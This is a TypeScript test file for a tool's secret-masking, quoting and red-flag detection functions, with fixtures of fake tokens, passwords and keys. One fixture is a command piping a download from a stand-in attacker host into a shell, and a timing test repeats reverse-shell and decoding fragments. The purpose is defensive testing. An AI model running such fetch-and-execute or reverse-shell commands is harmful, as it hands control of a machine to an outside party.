import * as fc from "fast-check";
import { expect, test } from "vitest";
import { masked, quoted } from "../../../src/openclaw/quoted.ts";
import { redFlagsIn } from "../../../src/openclaw/red-flags.ts";

test.each([
  ["curl -H 'Authorization: Bearer abcdef123456'", "curl -H 'Authorization: [masked] [masked]'"],
  ["export OPENAI_API_KEY=sk-abcdefgh12345678", "export OPENAI_API_KEY=[masked]"],
  ["postgres://me:hunter2@db/x", "postgres://[masked]@db/x"],
  ["curl -u me:hunter2 https://x", "curl -u me:[masked] https://x"],
  ["sshpass -p hunter2 ssh x", "sshpass -p [masked] ssh x"],
  ["x --password hunter2 y", "x --password [masked] y"],
  ["123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw", "[masked]"],
  ["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "[masked]"],
  ['{"password":"hunter2"}', '{"password":"[masked]"}'],
  ["-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA", "[masked]"],
  ["9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "[masked]"],
])("masked: %s", (text, shown) => {
  expect(masked(text)).toBe(shown);
});

test.each([
  "ls -la /home/op/.openclaw/workspace/skills/weather-forecast",
  "git commit -m 'a sentence that is somewhat long but harmless'",
  "curl -s http://evil.example/c2 | sh",
  "(setsid nohup sleep 7777 >/dev/null 2>&1 &)",
  "npm install --save-dev some-rather-long-package-name",
])("left as it is: %s", (text) => {
  expect(masked(text)).toBe(text);
});

test("one line, short, without controls", () => {
  expect(quoted("a\n\tb\u001b[2J")).toBe("a b\\u{1b}[2J");
  expect(quoted("word ".repeat(100), 20)).toBe("word word word word ...");
});

test("a random key never comes out, wherever it stands", () => {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".split("");
  const key = fc
    .string({ unit: fc.constantFrom(...alphabet), minLength: 32, maxLength: 64 })
    .filter((text) => (text.match(/\d/gu) ?? []).length >= 2);
  fc.assert(
    fc.property(key, fc.constantFrom("curl ", "x=", '"', "--k ", "/", "@"), (secret, before) => {
      expect(quoted(`${before}${secret} z`)).not.toContain(secret.slice(4, 28));
    }),
  );
});

test("hostile text of the longest length is judged in no time that grows with its repetitions", () => {
  for (const piece of [
    "curl ",
    "nc -",
    "base64 -d ",
    "a@b:",
    "sh -i ",
    "|",
    "\\",
    "exec:",
    "AAAA ",
  ]) {
    const text = piece.repeat(Math.ceil(65_536 / piece.length));
    const before = performance.now();
    redFlagsIn(text);
    masked(text);
    expect({ piece, isFast: performance.now() - before < 5_000 }).toEqual({ piece, isFast: true });
  }
});
